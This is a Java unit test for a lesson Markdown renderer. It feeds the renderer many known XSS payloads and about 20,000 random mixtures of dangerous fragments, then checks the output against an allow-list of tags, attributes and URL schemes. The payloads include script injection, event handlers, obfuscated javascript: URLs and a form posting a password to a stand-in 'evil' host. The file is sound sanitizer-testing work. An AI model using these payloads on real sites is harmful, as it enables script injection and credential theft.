package io.guildhall.course.lesson;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Locale;
import java.util.Random;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Hostile Markdown stays inert, whether it is a known attack or one put together by chance. */
class LessonSafetyTest {

    private static final Pattern TAG = Pattern.compile("<(/?)([A-Za-z][A-Za-z0-9]*)([^<>]*)>");
    private static final Pattern ATTRIBUTE = Pattern.compile("([a-z-]+)=\"([^\"<>]*)\"");
    private static final List<String> ELEMENTS = List.of(
            "p",
            "br",
            "hr",
            "blockquote",
            "h1",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "details",
            "summary",
            "em",
            "strong",
            "b",
            "i",
            "del",
            "s",
            "sub",
            "sup",
            "kbd",
            "mark",
            "ul",
            "ol",
            "li",
            "pre",
            "code",
            "table",
            "thead",
            "tbody",
            "tr",
            "th",
            "td",
            "a",
            "img",
            "input");
    private static final List<String> ATTRIBUTES =
            List.of("class", "align", "start", "href", "title", "src", "alt", "rel", "type", "checked", "disabled");
    private static final List<String> PIECES = List.of(
            "<script>",
            "</script>",
            "<img src=x onerror=alert(1)>",
            "javascript:alert(1)",
            "[a](",
            ")",
            "![",
            "](",
            "<a",
            " href=",
            "\"",
            "'",
            ">",
            "<",
            "&#106;",
            "&#x3c;",
            "&lt;",
            "data:text/html,x",
            "vbscript:x",
            " onclick=alert(1)",
            " style=x",
            "<svg",
            "<math",
            "<style>",
            "</style>",
            "<iframe",
            "<!--",
            "-->",
            "<![CDATA[",
            "]]>",
            "`",
            "```",
            "\n",
            "\n\n",
            "> ",
            "- ",
            "1. ",
            "| a |\n|---|\n",
            "*",
            "_",
            "~~",
            "\\",
            "\t",
            " ",
            "\u0000",
            "\u2028",
            "\ud83d",
            "\ufffd",
            "JaVaScRiPt:",
            "java\tscript:",
            "<b",
            "/>",
            "<input type=text>",
            "<base href=//x>",
            "<pre>",
            "<textarea>",
            "<noscript>",
            "<title>",
            "<xmp>",
            "[a]: ",
            "https://e.org/",
            "mailto:a@b.c",
            "//e.org",
            "language-",
            "中文",
            "&amp;",
            "&NewLine;",
            "&colon;",
            "<https://e.org/\"onclick=x>",
            "- [x] ",
            "<p class=x>");

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<img src=x onerror=alert(1)>",
                "![x](javascript:alert(1))",
                "[x](javascript:alert(1))",
                "[x](JaVaScRiPt:alert(1))",
                "[x](&#106;avascript:alert(1))",
                "[x](java&Tab;script:alert(1))",
                "[x](javascript&colon;alert(1))",
                "[x](data:text/html;base64,PHNjcmlwdD4=)",
                "[x](vbscript:msgbox(1))",
                "<javascript:alert(1)>",
                "[a]: javascript:alert(1)\n\n[a]",
                "<svg/onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
                "<iframe src=\"javascript:alert(1)\"></iframe>",
                "<a href=\"x\" onclick=\"alert(1)\">x</a>",
                "<p style=\"background:url(javascript:alert(1))\">x</p>",
                "<style>@import 'http://evil'</style>",
                "<base href=\"//evil/\">",
                "<form action=//evil><input name=password></form>",
                "<input type=\"text\" autofocus onfocus=alert(1)>",
                "<object data=x></object><embed src=x>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<!--><img src=x onerror=alert(1)>-->",
                "```\"><script>alert(1)</script>\nx\n```",
                "``` \" onmouseover=alert(1)\nx\n```",
                "![\"onerror=alert(1) x=\"](x)",
                "[x](https://e.org \"\\\" onclick=alert(1) x=\\\"\")",
                "|<script>alert(1)</script>|\n|---|\n|<img src=x onerror=alert(1)>|",
                "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
                "<details ontoggle=alert(1) open>x</details>"
            })
    void aKnownAttackIsInert(String attack) {
        assertInert(attack);
    }

    @Test
    void anyMixtureOfDangerousPiecesIsInert() {
        for (long seed = 0; seed < 20_000; seed++) {
            assertInert(mixture(new Random(seed)));
        }
    }

    private static String mixture(Random random) {
        var text = new StringBuilder();
        for (int i = 1 + random.nextInt(14); i > 0; i--) {
            text.append(PIECES.get(random.nextInt(PIECES.size())));
        }
        return text.toString();
    }

    private static void assertInert(String markdown) {
        String html = LessonMarkdown.toHtml(markdown);
        String text = TAG.matcher(html).replaceAll(tag -> {
            assertThat(ELEMENTS).as(markdown).contains(tag.group(2));
            assertAttributesAreInert(markdown, tag.group(3));
            return "";
        });
        assertThat(text).as(markdown).doesNotContain("<", ">");
    }

    private static void assertAttributesAreInert(String markdown, String attributes) {
        var rest = ATTRIBUTE.matcher(attributes).replaceAll(attribute -> {
            assertThat(ATTRIBUTES).as(markdown).contains(attribute.group(1));
            if (List.of("href", "src").contains(attribute.group(1))) {
                assertUrlIsInert(markdown, attribute.group(2));
            }
            return "";
        });
        assertThat(rest.replace("/", "")).as(markdown).isBlank();
    }

    private static void assertUrlIsInert(String markdown, String url) {
        String decoded = url.replace("&#58;", ":").replace("&amp;", "&").toLowerCase(Locale.ROOT);
        int colon = decoded.indexOf(':');
        int path = decoded.replaceAll("[/?#].*", "").length();
        if (colon >= 0 && colon < path) {
            assertThat(decoded.substring(0, colon)).as(markdown).isIn("http", "https", "mailto");
        }
    }
}
